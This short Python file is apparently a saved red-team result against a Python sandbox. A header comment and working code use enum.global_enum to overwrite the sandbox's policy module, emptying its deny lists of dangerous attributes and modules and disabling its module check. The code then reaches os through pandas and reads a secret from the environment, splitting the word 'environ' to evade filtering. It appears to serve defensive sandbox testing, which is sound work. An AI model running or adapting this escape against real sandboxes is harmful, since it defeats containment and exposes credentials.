# (a) enum.global_enum writes enum members into sys.modules["sandbox.policy"]: empties DENIED_ATTRS/DANGEROUS_MODULES, replaces module_allowed with partial(bool) -> pd.io.common.os -> os.environ; driver sees result == "planted-secret" and os module in namespace
# red team 2026-12-07, docs/redteam-2026-12-07/success_01_enum_global_enum_policy.py.txt
import enum
import functools
import pandas as pd

E = enum.Enum("E", {"DENIED_ATTRS": (), "DANGEROUS_MODULES": ()}, module="sandbox.policy", type=frozenset)
enum.global_enum(E)
F = enum.Enum("F", {"module_allowed": (bool,)}, module="sandbox.policy", type=functools.partial)
enum.global_enum(F)
os_mod = pd.io.common.os
result = getattr(os_mod, "env" + "iron")["SANDBOX_TEST_SECRET"]
print(result)
